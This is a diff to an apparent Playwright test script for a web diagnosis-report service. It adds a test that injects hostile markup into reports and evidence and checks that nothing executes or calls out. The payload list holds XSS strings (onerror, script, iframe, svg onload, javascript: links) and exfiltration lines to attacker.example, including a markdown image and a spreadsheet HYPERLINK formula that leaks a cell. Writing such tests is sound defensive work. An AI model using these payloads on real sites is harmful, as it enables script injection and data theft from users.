@@ -194,13 +194,60 @@ async function lostStream(browser) {
   await context.close();
 }
 
+/** Texts that a log line, a row or a runbook may bring into a report. */
+const HOSTILE = [
+  "<img src=x onerror=\"globalThis.__executed=1\">",
+  "</script><script>globalThis.__executed=2</script>",
+  "![a](https://attacker.example/?q=SELECT+1) [b](javascript:globalThis.__executed=3)",
+  "<iframe srcdoc='<script>parent.__executed=4</script>'></iframe><svg onload=globalThis.__executed=5>",
+  "```mermaid\nA->>B: <img src=https://attacker.example/x onerror=alert(1)> $$\\text{<style>*{display:none}</style>}$$\n```",
+  '=HYPERLINK("http://attacker.example/?"&A1,"ok")',
+].join(" ");
+
+/** `value` with every text that a model or a source wrote made hostile. */
+function poisoned(value, key = "") {
+  if (Array.isArray(value)) return value.map((item) => poisoned(item, key));
+  if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poisoned(v, k)]));
+  const told = ["text", "excerpt", "sample", "message", "template", "title", "section", "missing_info", "caveats"];
+  return typeof value === "string" && told.includes(key) ? `${value} ${HOSTILE}` : value;
+}
+
+/** The run is real; its report and its evidence hold what an attacker would have written. */
+async function hostileReport(browser) {
+  const { context, page, faults } = await open(browser);
+  const asked = [];
+  page.on("request", (r) => !r.url().startsWith(BASE) && asked.push(r.url()));
+  page.on("dialog", (dialog) => { asked.push(`dialog: ${dialog.message()}`); return dialog.dismiss(); });
+  await page.route("**/api/chat", async (route) => {
+    const response = await route.fetch({ timeout: RUN_TIMEOUT_MS });
+    const text = (await response.text()).replace(/(event: content\ndata: )(.*)/, (_, head, data) => head + JSON.stringify(poisoned(JSON.parse(data))));
+    await route.fulfill({ response, body: text });
+  });
+  await page.route("**/evidence", async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, json: poisoned(await response.json()) });
+  });
+  await check("markup in a report and its evidence is text: nothing runs, nothing is asked for", async () => {
+    const { kind, text } = await ask(page, "checkout 5xx since 06:05, why?");
+    expect(kind === "DIAGNOSIS_REPORT", `got ${kind}`);
+    expect(text.includes("</script><script>") && text.includes("![a]("), "the report is not shown as it was written");
+    expect((await openEvidence(page)).includes("<iframe srcdoc="), "the evidence is not shown as it was written");
+    const made = await page.locator("main :is(img, script, iframe, svg[onload], style, a[href^='javascript'], a[href*='attacker'])").count();
+    expect(made === 0, `${made} elements were made of text`);
+    expect((await page.evaluate(() => globalThis.__executed)) === undefined, "a script ran");
+    expect(asked.length === 0, asked.join("\n"));
+    expect(faults.length === 0, faults.join("\n"));
+  });
+  await context.close();
+}
+
 async function main() {
   if (!BASE) throw new Error("set BASE_URL to the running service, for example http://127.0.0.1:9000");
   const profile = await mkdtemp(join(tmpdir(), "superbiz-browser-"));
   const executablePath = process.env.CHROMIUM || "/usr/bin/chromium";
   const browser = await chromium.launch({ executablePath, headless: true, args: ARGS, env: { ...process.env, HOME: profile } });
   try {
-    for (const part of [english, chinese, lostStream]) {
+    for (const part of [english, chinese, lostStream, hostileReport]) {
       await part(browser).catch((error) => check(`${part.name}: the page opens`, () => { throw error; }));
     }
   } finally {
